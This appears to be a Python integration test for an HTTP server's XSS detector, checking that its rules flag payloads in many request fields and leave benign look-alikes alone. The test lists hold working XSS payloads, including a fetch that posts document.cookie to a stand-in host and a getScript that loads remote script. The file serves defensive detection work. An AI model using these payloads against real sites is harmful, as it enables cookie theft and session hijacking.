"""The xss detector in a real httpd: its two shipped rules (200900
parameters, names, cookies; 200910 headers and path) alone, with the shipped
xss.words, flag XSS wherever the rules say and leave look-alikes alone.

Run:  LW_BUILDDIR=/path/to/build LW_SRCDIR=/path/to/src \
      /usr/bin/python3 -m pytest -q test/integration -k detect_xss
"""
import json
import time
import urllib.parse

import lwhttpd
from lwhttpd import is_attack
from test_body import FORM, JSON, with_cgi

DETECTOR_RULES = (200900, 200910)


def detector_only(tmpdir):
    """The shipped xss detector rules and words alone."""
    return lwhttpd.detector_only(tmpdir, "20-xss.rules", DETECTOR_RULES, "xss.words")


# (request target, extra headers, rule id, field, reason prefix)
ATTACKS = [
    ("/search.php?q=%27-alert%601%60-%27", [], 200900, "args:q",
     "js:tpl alert"),
    ("/search.php?q=%22%3E%3Csvg%2Fonload%3Dconfirm(1)%3E", [], 200900,
     "args:q", "html:<svg onload"),
    ("/search.php?q=ja%26Tab%3Bvascript%3Aalert(1)", [], 200900, "args:q",
     "url:javascript"),
    ("/search.php?q=top%5B%27al%27%2B%27ert%27%5D(1)", [], 200900, "args:q",
     "js:index top"),
    # in a parameter's name (split at its '=') and in a ';' part
    ("/p.php?%3Cimg%20src%3Dx%20onerror%3Dprompt(1)%3E=1", [], 200900,
     "arg_names", "html:<img"),
    ("/p.php?id=1;%3Cdetails%20open%20ontoggle%3Dalert(1)%3E", [], 200900,
     "args", "html:<details ontoggle"),
    ("/p.php", [("Cookie", "sid=abc; pref=\"><script>alert(1)</script>")],
     200900, "cookie", "html:<script"),
    ("/p.php", [("User-Agent", "Mozilla/5.0 <svg/onload=alert(1)>")], 200910,
     "user_agent", "html:<svg onload"),
    ("/p.php", [("Referer", "javascript:alert(document.cookie)")], 200910,
     "referer", "url:javascript"),
    # calls without parentheses, computed access after a JSFuck-style run,
    # JSFuck whose '+' a form made a space, a scheme's ':' escaped in JSON
    ("/search.php?q=%7Bonerror%3Dalert%7Dthrow%201", [], 200900, "args:q",
     "html:onerror="),
    ("/search.php?q=%5B%5D%5B%27constructor%27%5D%5B%27constructor%27%5D"
     "(%27alert(1)%27)()", [], 200900, "args:q", "js:index constructor"),
    ("/search.php?q=(+[![]]+[][(![]+[])[+[]]])[+!+[]+[+[]]]", [], 200900,
     "args:q", "js:jsfuck"),
    ("/api.php?u=%7B%22u%22%3A%22javascript%5Cu003aalert(1)%22%7D", [],
     200900, "args:u", "url:javascript"),
]

BENIGN = [
    ("/search.php?q=%3Cb%3Ebold%3C%2Fb%3E+a+%3C+b", []),
    ("/search.php?q=JavaScript%3A+the+good+parts", []),
    ("/search.php?q=alert+me+when+the+price+drops", []),
    ("/search.php?q=if+(a+%3C+b)+return+a%3B", []),
    ("/p.php?q=document.cookie+explained", []),
    ("/p.php", [("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
                 "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
                 "Safari/537.36")]),
    ("/p.php", [("Referer", "https://www.example.com/search?q=a+%3C+b")]),
    # an embedded video, JSX, a named global, prose and Markdown about calls
    ("/post.php?body=%3Ciframe%20width%3D%22560%22%20src%3D%22https%3A%2F%2F"
     "www.youtube.com%2Fembed%2Fx%22%20allowfullscreen%3E%3C%2Fiframe%3E", []),
    ("/search.php?q=%3Cbutton%20onClick%3D%7B()%20%3D%3E%20setOpen(true)%7D%3E",
     []),
    ("/search.php?q=window%5B%27dataLayer%27%5D%20%3D%20window%5B%27dataLayer"
     "%27%5D%20%7C%7C%20%5B%5D", []),
    ("/search.php?q=why+does+alert(1)+not+show+in+an+iframe", []),
    ("/search.php?q=use+%60alert()%60+only+for+debugging", []),
]


def test_detect_xss_live(httpd_factory, tmp_path):
    h = httpd_factory(signatures=[detector_only(str(tmp_path))])
    for rec in lwhttpd.check_detector_live(h, ATTACKS, BENIGN):
        assert rec["severity"] == "high" and "xss" in rec["categories"]


# Classes of other authors' payloads (test/eval/written/xss-dev.txt), each
# with the detector's reason, sent in every place an attacker puts a value:
# the query, a form body, a JSON body, a header of the client's own and a
# cookie. The benign look-alikes go to the same places and stay clean.
CLASSES = [
    ('" autofocus onfocus="alert(document.domain)', "html:onfocus"),
    ("';alert(1)//", "js:call alert"),
    ("${alert(document.cookie)}", "js:"),
    ("{{constructor.constructor('alert(1)')()}}", "js:"),
    ("onerror=alert;throw 1", "html:onerror="),
    ("Reflect.apply(alert,0,[1])", "js:"),
    ("self[/al/.source+/ert/.source](1)", "js:"),
    ("top['al\\x65rt'](1)", "js:"),
    ("<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
     "url:javascript"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     "html:<img"),
    ("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "html:utf-7"),
    ("fetch('//x.example',{method:'POST',body:document.cookie})", "js:"),
    ("$.getScript('//x.example/x.js')", "js:call getscript"),
    ("jQuery.globalEval('alert(1)')", "js:call globaleval"),
    ("<img name=getElementById>", "html:<img name=getElementById"),
]

LOOKALIKES = [
    "fetch('/api/items').then(r => r.json())",
    "$.getScript('plugin.js') returns undefined",
    "how to use onclick in react",
    "document.getElementById('x')",
    "{{ user.email }}",
    "a<b && c>d",
    "<john@example.com>",
    "window.location.href vs window.location.replace",
    '<input type="text" name="q"><textarea name="body"></textarea>',
]


def _placed(h, n, value):
    """Send value in place n % 5 as request n; (marker, field prefix)."""
    m = "xp=%d" % n
    place = n % 5
    if place == 0:
        h.get("/cgi/echo?%s&q=%s" % (m, urllib.parse.quote(value, safe="")))
        return m, "args:q"
    if place == 1:
        body = ("q=" + urllib.parse.quote(value, safe="")).encode()
        st, _ = h.post("/cgi/echo?" + m, body, FORM)
        assert st == 200
        return m, "body:form:q"
    if place == 2:
        st, _ = h.post("/cgi/echo?" + m, json.dumps({"q": value}).encode(),
                       JSON)
        assert st == 200
        return m, "body:json:$.q"
    if place == 3:
        h.get("/cgi/echo?" + m, headers=[("X-Search", value)])
        return m, "header:X-Search"
    h.get("/cgi/echo?" + m,
          headers=[("Cookie", "sid=1; q=" + urllib.parse.quote(value,
                                                               safe=""))])
    return m, "cookie"


def test_detect_xss_places(httpd_factory, tmp_path):
    h = httpd_factory(start=False, signatures=[detector_only(str(tmp_path))])
    with_cgi(h)
    h.start()
    n = 0
    benign = []
    for v in LOOKALIKES:
        for _ in range(5):
            benign.append(_placed(h, n, v)[0])
            n += 1
    sent = []
    for v, why in CLASSES:
        for _ in range(5):
            sent.append((_placed(h, n, v), v, why))
            n += 1
    h.wait_records(len(sent), pred=is_attack)
    time.sleep(0.3)
    recs = [r for r in h.records() if is_attack(r)]
    for r in recs:
        q = r["uri"].split("?", 1)[1]
        assert q.split("&")[0] not in benign, ("look-alike flagged", r)
    by = {r["uri"].split("?", 1)[1].split("&")[0]: r for r in recs}
    for (m, field), v, why in sent:
        rec = by.get(m)
        assert rec is not None, ("not flagged", field, v)
        hits = [x for x in rec["rules"] if x["id"] in DETECTOR_RULES
                and x["field"].startswith(field)]
        assert hits, (field, v, rec["rules"])
        assert hits[0]["detail"].startswith(why), (field, v, hits[0])
        assert rec["severity"] == "high" and "xss" in rec["categories"]
